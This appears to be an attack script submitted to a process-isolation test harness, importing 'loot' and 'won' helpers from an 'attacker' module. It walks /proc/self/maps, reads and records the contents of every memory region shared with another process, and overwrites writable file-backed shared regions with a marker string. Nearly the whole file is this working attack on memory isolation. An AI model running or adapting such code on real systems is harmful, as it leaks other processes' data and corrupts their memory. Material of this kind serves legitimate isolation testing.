"""Writes into every mapping of memory that it shares with another process."""
# Handed in twice

import ctypes

from attacker import _WON, loot, won

for line in open("/proc/self/maps"):
    span, rights, _, _, inode, *path = line.split()
    if rights[3] != "s":
        continue
    loot(line)
    start, end = (int(part, 16) for part in span.split("-"))
    loot(ctypes.string_at(start, min(200, end - start)))
    if "w" in rights and inode != "0":
        won("shares memory that it can write")
        ctypes.memmove(start, _WON.encode(), len(_WON))
